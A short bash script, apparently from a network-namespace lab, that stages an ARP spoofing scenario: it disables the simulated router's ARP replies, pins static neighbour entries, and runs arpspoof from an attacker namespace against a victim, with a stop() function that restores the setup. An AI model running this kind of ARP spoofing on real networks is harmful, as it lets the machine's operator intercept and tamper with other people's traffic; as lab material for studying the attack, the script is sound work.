# shellcheck shell=bash
# The true router is kept silent (it answers no ARP question any more) while the attacker claims its address.
start() { att_forward; ns attacker ip neigh replace $GW_IP lladdr $GW_MAC dev eth0 nud permanent
  ns gw ip neigh replace $VICTIM_IP lladdr $VICTIM_MAC dev eth0 nud permanent
  ns gw ip neigh replace $ATT_IP lladdr $ATT_MAC dev eth0 nud permanent
  ns gw ip link set eth0 arp off; mark
  sbg attacker arpspoof-v arpspoof -i eth0 -t $VICTIM_IP $GW_IP; }
stop() { ns gw ip link set eth0 arp on; ns gw ip neigh del $VICTIM_IP dev eth0; ns gw ip neigh del $ATT_IP dev eth0
  ns victim ip neigh flush dev eth0; victim_touch; }
